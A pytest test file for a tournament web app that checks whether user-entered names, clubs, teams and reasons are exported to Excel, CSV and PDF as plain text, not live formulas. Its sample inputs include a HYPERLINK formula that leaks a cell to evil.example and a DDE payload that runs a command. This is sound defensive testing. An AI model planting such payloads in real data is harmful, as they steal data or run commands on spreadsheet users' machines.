"""Formula injection (issue 15): a name, club, town, team or reason a user
typed or imported reaches a spreadsheet only as text. No cell of the player
export or the results workbook is a formula because of it, no field of a
CSV starts with a formula character unless it is neutralised, numbers stay
numbers, and what the site exports imports back as the same names."""

import csv
from io import BytesIO, StringIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tests.support.factories import TeamFactory, TournamentFactory
from tests.support.pdf import needs_pdftotext, pdf_pages_text
from tests.support.results import seated_with_results
from tests.support.workbooks import import_confirmation
from tournament.core.workbook import (
    FORMULA_START,
    Formula,
    csv_write,
    workbook_bytes,
    write_table,
)
from tournament.models import Entry, Player
from tournament.paper.games_import import parse_games_workbook
from tournament.paper.pdf import document_pdf
from tournament.paper.workbook import results_workbook
from tournament.registration.services import entry_withdraw

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("var_dir")]

# What a spreadsheet evaluates when a cell or a CSV field starts with it.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klick")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# The ones a desk form or an import keeps as they are (both strip spaces).
TYPED = [f for f in FORMULAS if f == f.strip()]


@pytest.fixture
def hostile(tournament, organizer):
    """Series 1 with every result confirmed; every player named, in every
    field a user fills, with a formula; a team and a withdrawal reason too."""
    seated_with_results(tournament, organizer)
    entries = list(Entry.objects.filter(tournament=tournament).order_by("pk"))
    for i, entry in enumerate(entries):
        formula = FORMULAS[i % len(FORMULAS)]
        Player.objects.filter(pk=entry.player_id).update(
            first_name=formula, last_name=formula, club=formula, town=formula
        )
    team = TeamFactory(tournament=tournament, name="=1+2")
    Entry.objects.filter(pk=entries[0].pk).update(team=team)
    entry_withdraw(actor=organizer, entry=entries[-1], reason="@1+1")
    return tournament


def user_text(tournament) -> set[str]:
    """Every text a user gave this tournament's players, teams and entries."""
    texts = set()
    for entry in Entry.objects.filter(tournament=tournament).select_related(
        "player", "team"
    ):
        player = entry.player
        texts |= {player.first_name, player.last_name, player.club, player.town}
        texts |= {player.full_name, entry.withdrawal_reason}
        if entry.team:
            texts.add(entry.team.name)
    return texts - {""}


def cells(content: bytes):
    workbook = load_workbook(BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


def assert_user_text_is_text(content: bytes, texts: set[str]) -> int:
    """Every cell holding a user's text is a text cell (shown as text when
    it starts like a formula); no formula holds a user's text. Returns how
    many cells held a user's text."""
    seen = 0
    for title, cell in cells(content):
        value = str(cell.value)
        if value in texts:
            seen += 1
            assert cell.data_type == "s", (title, cell.coordinate, value)
            assert cell.quotePrefix == value.startswith(FORMULA_START), (
                title,
                cell.coordinate,
            )
        if cell.data_type == "f":
            assert not any(text in value for text in texts), (title, value)
    return seen


def test_the_results_workbook_writes_users_formulas_as_text(hostile):
    content = results_workbook(tournament=hostile)
    texts = user_text(hostile)
    # Players, seating, games and standings: 11 players, 4-6 texts each.
    assert assert_user_text_is_text(content, texts) > 100
    # No formula at all: every number is the standings' own value.
    assert not [(t, c) for t, c in cells(content) if c.data_type == "f"]
    workbook = load_workbook(BytesIO(content))
    # Numbers stay numbers.
    for title in ("Spieler", "Setzung Serie 1", "Spiele", "Tabelle"):
        sheet = workbook[title]
        for (cell,) in sheet.iter_rows(min_row=2, min_col=1, max_col=1):
            assert isinstance(cell.value, int) and cell.data_type == "n", title


def test_the_player_export_writes_users_formulas_as_text(hostile, organizer_client):
    response = organizer_client.get(
        reverse("tournament:entry_export", kwargs={"slug": hostile.slug})
    )
    assert assert_user_text_is_text(response.content, user_text(hostile)) > 40
    sheet = load_workbook(BytesIO(response.content)).active
    numbers = [c.value for (c,) in sheet.iter_rows(min_row=2, max_col=1)]
    assert numbers == list(range(1, 12))


def test_the_player_export_imports_back_with_the_same_names(
    organizer, organizer_client
):
    source = TournamentFactory(slug="quelle")
    for n, formula in enumerate(TYPED, 1):
        organizer_client.post(
            reverse("tournament:entry_create", kwargs={"slug": source.slug}),
            {
                "first_name": formula,
                "last_name": formula + "x",
                "club": formula,
                "town": formula,
                "category": "open",
                "start_number": n,
            },
        )
    names = sorted(
        source.entries.values_list(
            "start_number", "player__first_name", "player__last_name", "player__club"
        )
    )
    assert [n[1] for n in names] == TYPED  # the desk kept them as typed
    content = organizer_client.get(
        reverse("tournament:entry_export", kwargs={"slug": source.slug})
    ).content
    target = TournamentFactory(slug="ziel")
    response = organizer_client.post(
        reverse("tournament:import_upload", kwargs={"slug": target.slug}),
        {"file": SimpleUploadedFile("spieler.xlsx", content)},
    )
    assert response.context["preview"].ok, response.context["preview"].rows
    organizer_client.post(
        reverse("tournament:import_confirm", kwargs={"slug": target.slug}),
        import_confirmation(response),
    )
    assert (
        sorted(
            target.entries.values_list(
                "start_number",
                "player__first_name",
                "player__last_name",
                "player__club",
            )
        )
        == names
    )


def test_the_games_sheet_imports_back_unchanged(hostile):
    content = results_workbook(tournament=hostile)
    preview = parse_games_workbook(
        BytesIO(content), size=len(content), filename="x.xlsx", tournament=hostile
    )
    assert preview.ok, preview.errors
    assert {t.action for t in preview.tables} == {"same"}


def test_the_standings_csv_neutralises_formulas(hostile):
    out = StringIO()
    call_command("standings", hostile.slug, "--format", "csv", stdout=out)
    text = out.getvalue().removeprefix("\ufeff")
    rows = list(csv.reader(StringIO(text), delimiter=";"))
    assert len(rows) == 1 + 11
    for row in rows[1:]:
        entry = Entry.objects.get(tournament=hostile, start_number=int(row[1]))
        assert row[2] == "'" + entry.player.full_name
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_START), row
    # Numbers stay numbers: unquoted in the file, text quoted.
    first = text.splitlines()[1].split(";")
    assert first[0].isdigit() and first[1].isdigit()
    assert first[2].startswith("\"'")


def test_csv_write_quotes_text_and_keeps_numbers():
    out = StringIO()
    csv_write(out, ["name", "points"], [["=1+1", 12], ["-3", -3], ["Anna", 0]])
    assert out.getvalue().splitlines() == [
        '"name","points"',
        '"\'=1+1",12',
        '"\'-3",-3',
        '"Anna",0',
    ]


def test_write_table_keeps_the_sites_own_formulas():
    workbook = Workbook()
    sheet = workbook.active
    write_table(sheet, ["a", "b"], [[1, "=1+1"], [2, Formula("=SUM(A2:A3)")]])
    sheet = load_workbook(BytesIO(workbook_bytes(workbook))).active
    assert (sheet["B2"].value, sheet["B2"].data_type) == ("=1+1", "s")
    assert (sheet["B3"].value, sheet["B3"].data_type) == ("=SUM(A2:A3)", "f")
    assert sheet["A2"].data_type == "n"


def test_characters_a_workbook_cannot_hold_are_left_out():
    workbook = Workbook()
    write_table(workbook.active, ["a"], [["\x1b[31mrot\x00"]])
    sheet = load_workbook(BytesIO(workbook_bytes(workbook))).active
    assert sheet["A2"].value == "[31mrot"


@needs_pdftotext
@pytest.mark.parametrize("kind", ["standings", "seating"])
def test_pdfs_show_formulas_as_plain_text(hostile, kind):
    document = document_pdf(tournament=hostile, kind=kind, series_number=1)
    # Long names wrap, inside a word if they must (issue 14.16): compare
    # without the line breaks.
    text = "".join("".join(pdf_pages_text(document.content, layout=False)).split())
    assert '=HYPERLINK("http://evil.example/?"&A1,"klick")' in text
    assert "@SUM(A1:A9)" in text
